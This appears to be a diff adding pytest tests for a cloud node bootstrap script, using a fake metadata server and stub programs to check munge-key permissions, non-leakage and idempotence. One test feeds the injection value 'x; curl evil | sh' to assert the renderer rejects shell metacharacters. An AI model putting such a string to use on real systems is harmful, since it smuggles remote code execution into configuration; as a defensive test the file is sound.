@@ -1,0 +1,157 @@
+"""scripts/node-bootstrap.sh, run for real under bash against fake metadata / secret endpoints.
+
+`aws`, `systemctl` and `logger` are stub programs on PATH that record their arguments; the script writes under
+BURSTD_ROOT (a temp dir) instead of /. The munge key must land 0400 and appear in no output, log or argv.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+import shutil
+import stat
+import subprocess
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+
+from burstd.providers.bootstrap import render_startup_script
+
+KEY = os.urandom(64) + b"MUNGE-KEY-SENTINEL"
+KEY_B64 = base64.b64encode(KEY).decode()
+TOKEN = "imds-token-123"
+
+pytestmark = pytest.mark.skipif(shutil.which("curl") is None or shutil.which("python3") is None,
+                                reason="needs curl and python3")
+
+
+class Meta(BaseHTTPRequestHandler):
+    node = "aws-7"
+
+    def log_message(self, *a):
+        pass
+
+    def _send(self, code, body: bytes):
+        self.send_response(code)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_PUT(self):
+        if self.path == "/latest/api/token" and self.headers.get("X-aws-ec2-metadata-token-ttl-seconds"):
+            return self._send(200, TOKEN.encode())
+        self._send(403, b"")
+
+    def do_GET(self):
+        if self.path.startswith("/latest/"):
+            if self.headers.get("X-aws-ec2-metadata-token") != TOKEN:
+                return self._send(401, b"")  # IMDSv2 only
+            if self.path == "/latest/meta-data/tags/instance/burstd:node":
+                return self._send(200, self.node.encode())
+            if self.path == "/latest/meta-data/placement/region":
+                return self._send(200, b"us-east-1")
+        if self.path.startswith("/computeMetadata/v1/"):
+            if self.headers.get("Metadata-Flavor") != "Google":
+                return self._send(403, b"")
+            sub = self.path.removeprefix("/computeMetadata/v1/")
+            if sub == "instance/attributes/burstd-node":
+                return self._send(200, b"gcp-2")
+            if sub == "instance/service-accounts/default/token":
+                return self._send(200, json.dumps({"access_token": "ya29.fake-token", "expires_in": 300}).encode())
+        if self.path == "/v1/projects/proj1/secrets/burstd-munge-key/versions/latest:access":
+            if self.headers.get("Authorization") != "Bearer ya29.fake-token":
+                return self._send(401, b"")
+            payload = base64.b64encode(KEY_B64.encode()).decode()
+            return self._send(200, json.dumps({"name": "x", "payload": {"data": payload}}).encode())
+        self._send(404, b"")
+
+
+@pytest.fixture
+def meta():
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Meta)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def stubs(tmp: Path, aws_ok: bool = True) -> Path:
+    bin_dir = tmp / "bin"
+    bin_dir.mkdir(exist_ok=True)
+    rec = tmp / "argv.log"
+    for name in ("systemctl", "logger"):
+        (bin_dir / name).write_text(f'#!/bin/bash\necho "{name} $*" >> {rec}\n'
+                                    + ('[[ "$1 $2" == "cat burstd-agent.service" ]] && exit 0\n' if name == "systemctl" else "")
+                                    + "exit 0\n")
+    aws_body = f'echo "aws $*" >> {rec}\n' + (f"printf '%s\\n' '{KEY_B64}'\n" if aws_ok else "echo denied >&2; exit 255\n")
+    (bin_dir / "aws").write_text("#!/bin/bash\n" + aws_body)
+    for f in bin_dir.iterdir():
+        f.chmod(0o755)
+    return bin_dir
+
+
+def run(script: str, tmp: Path, meta: str, bin_dir: Path) -> subprocess.CompletedProcess:
+    path = tmp / "startup.sh"
+    path.write_text(script)
+    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "BURSTD_ROOT": str(tmp / "root"), "BURSTD_IMDS_URL": meta,
+           "BURSTD_GCE_METADATA_URL": meta, "BURSTD_SECRETMANAGER_URL": meta, "HOME": str(tmp)}
+    return subprocess.run(["bash", str(path)], env=env, capture_output=True, text=True, timeout=60)
+
+
+def check_no_leak(tmp: Path, proc: subprocess.CompletedProcess) -> None:
+    rec = (tmp / "argv.log").read_text()
+    for text in (proc.stdout, proc.stderr, rec):
+        assert KEY_B64 not in text and "MUNGE-KEY-SENTINEL" not in text
+
+
+@pytest.mark.parametrize("cloud,node,secret", [
+    ("aws", "aws-7", "burstd/munge-key"),
+    ("aws", "aws-7", "ssm:/burstd/munge-key"),
+    ("gcp", "gcp-2", "burstd-munge-key"),
+])
+def test_bootstrap_installs_the_key_0400_and_starts_slurmd_configless_under_the_node_name(tmp_path, meta, cloud, node,
+                                                                                          secret):
+    settings = {"BURSTD_CLOUD": cloud, "BURSTD_MUNGE_SECRET": secret, "BURSTD_CONF_SERVER": "10.0.0.1:6817"}
+    settings |= {"BURSTD_REGION": "us-east-1"} if cloud == "aws" else {"BURSTD_PROJECT": "proj1"}
+    script = render_startup_script(settings)
+    bin_dir = stubs(tmp_path)
+    for _ in range(2):  # idempotent: a second run converges on the same state
+        proc = run(script, tmp_path, meta, bin_dir)
+        assert proc.returncode == 0, proc.stderr
+    key = tmp_path / "root/etc/munge/munge.key"
+    assert key.read_bytes() == KEY
+    assert stat.S_IMODE(key.stat().st_mode) == 0o400
+    assert [p.name for p in key.parent.iterdir()] == ["munge.key"]  # no temp file left
+    dropin = (tmp_path / "root/etc/systemd/system/slurmd.service.d/burstd.conf").read_text()
+    assert f"--conf-server 10.0.0.1:6817 -N {node}" in dropin
+    rec = (tmp_path / "argv.log").read_text()
+    assert "systemctl enable --now slurmd" in rec and "systemctl enable --now burstd-agent" in rec
+    assert "logger -t burstd-bootstrap" in rec and f"bootstrapped" in proc.stderr
+    check_no_leak(tmp_path, proc)
+    assert KEY_B64 not in script
+
+
+def test_bootstrap_fails_visibly_when_the_secret_cannot_be_read(tmp_path, meta):
+    script = render_startup_script({"BURSTD_CLOUD": "aws", "BURSTD_MUNGE_SECRET": "burstd/munge-key",
+                                    "BURSTD_CONF_SERVER": "10.0.0.1", "BURSTD_REGION": "us-east-1"})
+    proc = run(script, tmp_path, meta, stubs(tmp_path, aws_ok=False))
+    assert proc.returncode != 0
+    assert "FAILED: could not fetch the munge key" in proc.stderr and "burstd/munge-key" in proc.stderr
+    keydir = tmp_path / "root/etc/munge"
+    assert not keydir.exists() or list(keydir.iterdir()) == []
+    assert "enable --now slurmd" not in (tmp_path / "argv.log").read_text()
+
+
+def test_bootstrap_refuses_without_its_settings(tmp_path, meta):
+    proc = run(render_startup_script({"BURSTD_CLOUD": "aws"}), tmp_path, meta, stubs(tmp_path))
+    assert proc.returncode != 0 and "BURSTD_MUNGE_SECRET" in proc.stderr
+
+
+def test_rendering_refuses_shell_metacharacters():
+    with pytest.raises(ValueError, match="not allowed"):
+        render_startup_script({"BURSTD_CONF_SERVER": "x; curl evil | sh"})
+    with pytest.raises(ValueError, match="BURSTD_NAME"):
+        render_startup_script({"PATH": "/tmp"})
